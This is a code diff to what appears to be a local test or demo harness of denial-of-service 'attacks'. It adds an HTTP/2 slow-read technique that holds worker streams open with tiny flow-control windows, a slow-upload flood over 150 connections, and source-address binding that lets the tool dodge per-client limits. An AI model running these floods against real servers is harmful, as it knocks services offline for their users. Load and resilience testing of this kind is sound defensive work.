@@ -22,6 +22,7 @@ END_STREAM, END_HEADERS, ACK = 1, 4, 1
 INITIAL_WINDOW_SIZE = 4
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 IMAGE = "/public/silly-test-image.jpg"
+FILE = "/read"
 PAUSE = 0.2  # Seconds before a connection is opened again.
 
 Target = collections.namedtuple("Target", "host port workers admin")
@@ -72,18 +73,21 @@ class Closed(Exception):
 
 
 class Connection:
-    """One socket. It drops what it reads. A small `receive_buffer` makes a client that can receive little."""
+    """One socket. It drops what it reads. A small `receive_buffer` makes a client that can receive little. `source` is its address."""
 
-    def __init__(self, target_host, port, counts, receive_buffer=None):
+    def __init__(self, target_host, port, counts, receive_buffer=None, source=None):
         self.address = (target_host, port)
         self.counts = counts
         self.receive_buffer = receive_buffer
+        self.source = source
 
     async def __aenter__(self):
         self.socket = socket.socket()
         self.socket.setblocking(False)
         if self.receive_buffer:
             self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receive_buffer)
+        if self.source:
+            self.socket.bind((self.source, 0))
         loop = asyncio.get_running_loop()
         try:
             await asyncio.wait_for(loop.sock_connect(self.socket, self.address), 10)
@@ -398,6 +402,49 @@ async def frame_floods(target, counts):
     await http2(target, counts, 10, act, read=False, receive_buffer=4096)
 
 
+# Clients that hold up worker streams, at a rate that no limit forbids.
+
+
+async def held_responses(target, counts, rate, size, client):
+    """150 requests for a file, on two connections. Each stream's window is opened by `rate` bytes a second. The demo sets the size."""
+    loop = asyncio.get_running_loop()
+
+    async def once():
+        async with Connection(target.host, target.port, counts, source=f"127.0.1.{client}") as c:
+            await c.send(PREFACE + settings((INITIAL_WINDOW_SIZE, 1)) + frame(SETTINGS, ACK, 0) + window_update(0, 1 << 30))
+            live, numbers, data = set(), itertools.count(1, 2), b""
+            while True:
+                opened = [next(numbers) for _ in range(75 - len(live))]
+                live.update(opened)
+                await c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, head("GET", FILE)) for stream in opened))
+                second = loop.time() + 1
+                while loop.time() < second:
+                    try:
+                        data += await asyncio.wait_for(c.read(), second - loop.time())
+                    except asyncio.TimeoutError:
+                        break
+                    while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
+                        kind, flags, stream = data[3], data[4], int.from_bytes(data[5:9], "big")
+                        data = data[9 + int.from_bytes(data[:3], "big"):]
+                        if stream in live and (kind == RST_STREAM or kind in (HEADERS, DATA) and flags & END_STREAM):
+                            live.remove(stream)
+                            counts["resets" if kind == RST_STREAM else "responses"] += 1
+                await c.send(b"".join(window_update(stream, rate) for stream in live))
+
+    await again(counts, 2, once)
+
+
+async def held_uploads(target, counts, rate, size, client):
+    """150 connections, each with a POST of `size` bytes, which arrives at `rate` bytes a second."""
+
+    async def once():
+        async with Connection(target.host, target.port, counts, source=f"127.0.1.{client}") as c:
+            await c.send(post("/echo", size))
+            await c.trickle(bytes(rate // 2), 0.5)
+
+    await again(counts, 150, once)
+
+
 # The other ports.
 
 
@@ -468,6 +515,9 @@ ATTACKS = {
         worker_port, admin_port, flood, slowhttptest)
 }
 
+# Attacks that need a rate and a size, both in bytes, and the number of the client: one that has attacked before is remembered.
+HOLDING = {"held-responses": held_responses, "held-uploads": held_uploads}
+
 
 def step_back():
     """
@@ -488,12 +538,17 @@ def step_back():
 
 
 def run(name, target, counts_out):
-    """Runs an attack in a separate process until it is ended. Puts counts into the queue `counts_out` every second."""
+    """
+    Runs an attack in a separate process until it is ended. Puts counts into the queue `counts_out` every second. The names of HOLDING
+    are followed by their numbers: `held-uploads:260:2000000:1`.
+    """
     step_back()
     counts = collections.Counter()
+    kind, *numbers = name.split(":")
+    begin = HOLDING[kind] if numbers else ATTACKS[kind]
 
     async def main():
-        attack = asyncio.ensure_future(ATTACKS[name](target, counts))
+        attack = asyncio.ensure_future(begin(target, counts, *map(int, numbers)))
         while not attack.done():
             await asyncio.wait({attack}, timeout=1)
             counts_out.put((name, dict(counts)))
